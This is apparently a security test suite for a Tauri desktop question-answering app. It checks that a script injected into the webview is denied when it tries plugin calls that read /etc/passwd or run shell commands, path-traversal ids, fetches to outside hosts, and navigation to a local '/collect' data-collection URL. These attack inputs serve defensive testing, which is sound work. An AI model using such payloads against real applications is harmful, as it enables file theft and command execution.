// What a script running in the webview could reach, tried from inside the real page as an
// injected script would: no file system, shell, HTTP or opener plugin; "Open source" opens only
// files an answer cites; the evidence viewer reads only documents of the library, by id, and the
// CSP's `connect-src 'self'` (for pdf.js's data) reaches the app's own files only; history and
// exports take ids, never paths; a path-like id is refused; indexing and watching take only
// paths the user dropped natively or picked in a native dialog.

import { test } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { sleep, visibleWindowNames } from "./driver.mjs";
import { launchWithTestModels } from "./helpers.mjs";

/**
 * Invokes `cmd` with `args` from the page; resolves to "ok: …" or "denied: <the error>". An
 * `onEvent` of "channel" becomes a real IPC channel, as `Channel` from @tauri-apps/api sends it.
 */
const TRY = `
  const [cmd, args, done] = arguments;
  if (args.onEvent === "channel") {
    args.onEvent = "__CHANNEL__:" + window.__TAURI_INTERNALS__.transformCallback(() => {});
  }
  window.__TAURI_INTERNALS__.invoke(cmd, args).then(
    (v) => done("ok: " + JSON.stringify(v)),
    (e) => done("denied: " + (typeof e === "string" ? e : JSON.stringify(e))),
  );`;

test("the webview cannot read, write or open files through the IPC", async () => {
  const session = await launchWithTestModels();
  try {
    await session.waitFor('[data-testid="question-input"]');
    const attempt = (cmd, args = {}) => session.execAsync(TRY, cmd, args);

    // Plugins the app does not grant, with what an attacker would ask of them.
    const forbidden = [
      ["plugin:fs|read_text_file", { path: "/etc/passwd" }],
      ["plugin:fs|read_file", { path: "/etc/passwd" }],
      ["plugin:fs|write_text_file", { path: "/tmp/selfrag-pwned", data: "x" }],
      ["plugin:shell|execute", { program: "sh", args: ["-c", "touch /tmp/selfrag-pwned"] }],
      ["plugin:opener|open_path", { path: "/etc/passwd" }],
      ["plugin:opener|open_url", { url: "file:///etc/passwd" }],
      ["plugin:http|fetch", { clientConfig: { url: "http://example.com", method: "GET" } }],
      ["plugin:dialog|save", { options: {} }],
      ["plugin:dialog|open", { options: { directory: true } }],
      // A page that could emit this would fake a drop; the app listens to native drops only.
      ["plugin:event|emit", { event: "tauri://drag-drop", payload: { paths: ["/etc"], position: { x: 1, y: 1 } } }],
      ["plugin:webview|create_webview_window", { options: { label: "x", url: "https://example.com" } }],
    ];
    for (const [cmd, args] of forbidden) {
      const result = await attempt(cmd, args);
      assert.match(result, /^denied: /, `${cmd} must be refused, got ${result}`);
    }

    // The app's own commands take ids, never paths: a path in their place is an unknown id.
    for (const [cmd, args] of [
      ["open_source", { answerId: "../../../../etc/passwd", citation: 1 }],
      ["open_answer", { answerId: "../../../../etc/passwd" }],
      ["delete_answer", { answerId: "../settings" }],
      ["render_answer", { answerId: "/etc/passwd", options: { format: "md", supportLabels: false, onlySupported: false } }],
    ]) {
      const result = await attempt(cmd, args);
      // Refused for the id (no such answer), not for a malformed call: the path reached the
      // command and was not taken as one.
      assert.match(result, /^denied: .*(unknown|no answer|not found|invalid)/i, `${cmd} with a path for an id must be refused, got ${result}`);
      assert.doesNotMatch(result, /root:x:0:0/, `${cmd} leaked /etc/passwd`);
    }

    // The evidence viewer reads a document only by a passage or content id of the library.
    for (const [cmd, args] of [
      ["passage_source", { passageId: "/etc/passwd" }],
      ["passage_source", { passageId: "../../../../etc/passwd:0" }],
      ["source_pdf", { documentId: "/etc/passwd" }],
      ["source_pdf", { documentId: "../../../../etc/passwd" }],
    ]) {
      const result = await attempt(cmd, args);
      assert.match(result, /^denied: .*the library has no (passage|document)/, `${cmd} with a path must be refused, got ${result}`);
      assert.doesNotMatch(result, /root:x:0:0/, `${cmd} leaked /etc/passwd`);
    }

    // fetch reaches the app's own files (pdf.js's CMaps) and nothing else.
    const FETCH = `const [url, done] = arguments;
      fetch(url).then((r) => r.text()).then((t) => done("read: " + t.slice(0, 40)), (e) => done("blocked: " + e));`;
    const own = await session.execAsync(FETCH, new URL("pdfjs/cmaps/LICENSE", await session.exec("return document.baseURI;")).href);
    assert.match(own, /^read: /, own);
    for (const url of ["file:///etc/passwd", "http://127.0.0.1:9/", "https://example.com/"]) {
      const result = await session.execAsync(FETCH, url);
      assert.match(result, /^blocked: /, `fetch(${url}) must be blocked, got ${result}`);
    }

    // The commands that read new files take only paths the user dropped or picked natively.
    for (const [cmd, args] of [
      ["index_paths", { paths: ["/etc/passwd"], onEvent: "channel" }],
      ["index_paths", { paths: ["/etc"], onEvent: "channel" }],
      ["watch_folders", { paths: ["/etc"] }],
    ]) {
      const result = await attempt(cmd, args);
      assert.match(result, /^denied: .*path_not_granted/, `${cmd} with a path the user never gave must be refused, got ${result}`);
    }
    const reindex = await attempt("reindex_document", { path: "/etc/passwd", onEvent: "channel" });
    assert.match(reindex, /^denied: .*not_in_library/, `reindex_document outside the library must be refused, got ${reindex}`);
    // Removal takes a document id: a folder path (`/`, which matched every document) is none.
    const removal = await attempt("remove_document", { documentId: "/" });
    assert.match(removal, /^denied: .*not_in_library/, `remove_document with a path must be refused, got ${removal}`);
    const stats = await attempt("library_stats");
    assert.match(stats, /"documents":0/, `nothing was indexed: ${stats}`);
  } finally {
    await session.close();
  }
});

test("the page cannot navigate away to carry text off", async () => {
  let requests = 0;
  const server = createServer((req, res) => {
    requests += 1;
    res.end("stolen");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${server.address().port}/collect?passage=secret`;
  const session = await launchWithTestModels();
  try {
    await session.waitFor('[data-testid="question-input"]');
    await session.exec(`window.location.href = arguments[0];`, url);
    await sleep(2000);
    await session.exec(`window.location.assign(arguments[0]);`, url);
    await sleep(2000);
    // A new window is a way out too: window.open, and a link with target=_blank clicked.
    const windowsBefore = visibleWindowNames().sort();
    const opened = await session.exec(`const w = window.open(arguments[0], "_blank"); return w === null ? "null" : "window";`, url);
    await sleep(2000);
    await session.exec(
      `const a = document.createElement("a");
       a.href = arguments[0]; a.target = "_blank"; a.rel = "noopener"; a.textContent = "out";
       document.body.appendChild(a); a.click(); a.remove();`,
      url,
    );
    await sleep(2000);
    assert.equal(requests, 0, `the page reached the other host (window.open gave ${opened})`);
    assert.deepEqual(visibleWindowNames().sort(), windowsBefore, "a second window opened");
    const here = await session.exec(`return window.location.href;`);
    assert.ok(!here.startsWith("http://127.0.0.1"), `the page is now at ${here}`);
    await session.waitFor('[data-testid="question-input"]');
  } finally {
    await session.close();
    server.close();
  }
});
